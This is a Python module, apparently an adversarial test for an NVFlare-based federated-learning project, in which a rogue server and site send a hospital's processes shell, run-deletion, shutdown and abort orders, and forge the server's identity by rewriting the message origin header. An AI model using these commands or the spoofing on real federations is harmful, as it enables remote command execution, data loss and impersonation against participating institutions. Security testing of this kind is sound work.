# SPDX-License-Identifier: Apache-2.0
"""A server and a site that send a hospital's processes what no run needs.

It is laid into their own kits, as only their owners could.
"""

import time

from flap_sam.federation.controller import FlapSamController
from flap_sam.federation.executor import FlapSamExecutor
from flap_sam.wire.messages import TASK_TRAIN
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.core_cell import TargetMessage
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import STREAM_CHANNEL, StreamHeaderKey
from nvflare.private.admin_defs import Message as AdminMessage

HOSPITAL = "hospital-a"
ORDERS = ("sys.shell", "train.delete_run", "train.shutdown", "train.restart")
ROUND = 1


def besiege(cell: Cell, job: str) -> None:
    """Everything that one can try, at both processes of the hospital."""
    core = cell.core_cell
    for target in (HOSPITAL, f"{HOSPITAL}.{job}"):
        for topic in ORDERS:
            core.fire_and_forget("admin", "admin", target, _order(topic))
        core.fire_and_forget("client_command", "abort", target, Message({}, {}))
        core.fire_and_forget("_net_manager", "stop", target, Message({}))
        core.fire_and_forget("aux_communication", "fed.event", target, Message({}, {}))
        bulk = [TargetMessage(target, "admin", "admin", _order("sys.shell")).to_dict()]
        core.fire_and_forget("cellnet.channel", "bulk", target, Message({}, bulk))
        cell.fire_and_forget(channel="aux_communication", topic="fed.event", targets=target, message=Message({}, {}))


def besiege_as(origin: str, cell: Cell, job: str) -> None:
    """The same in somebody else's name."""
    core = cell.core_cell
    send = core._send_to_endpoint

    def forged(to_endpoint, message) -> str:
        if _is_attack(message):
            message.set_header(MessageHeaderKey.ORIGIN, origin)
        return send(to_endpoint, message)

    time.sleep(1)  # streams are sent by threads of their own: those of before under their own name
    core._send_to_endpoint = forged
    try:
        besiege(cell, job)
        time.sleep(1)
    finally:
        core._send_to_endpoint = send


def _is_attack(message: Message) -> bool:
    """Not the honest traffic of the job, which goes on meanwhile."""
    if not message.get_header(MessageHeaderKey.DESTINATION).startswith(HOSPITAL):
        return False
    stream = message.get_header(MessageHeaderKey.CHANNEL) == STREAM_CHANNEL
    return not stream or message.get_header(StreamHeaderKey.TOPIC) == "fed.event"


def _order(topic: str) -> Message:
    order = AdminMessage(topic, "ls")
    order.set_header("job_id", "local")
    return Message({}, order)


class BesiegingExecutor(FlapSamExecutor):
    """Besieges the hospital before it trains."""

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if task_name == TASK_TRAIN and shareable.get_header("current_round") == ROUND:
            besiege(fl_ctx.get_engine().get_cell(), fl_ctx.get_job_id())
        return super().execute(task_name, shareable, fl_ctx, abort_signal)


class BesiegingController(FlapSamController):
    """Besieges the hospital before its round, in its own name and in the server's."""

    def ask(self, task, asked, answers):
        if task.name == TASK_TRAIN and task.round == ROUND:
            cell, job = self.engine.get_cell(), self.fl_ctx.get_job_id()
            besiege(cell, job)
            besiege_as("server", cell, job)
        super().ask(task, asked, answers)
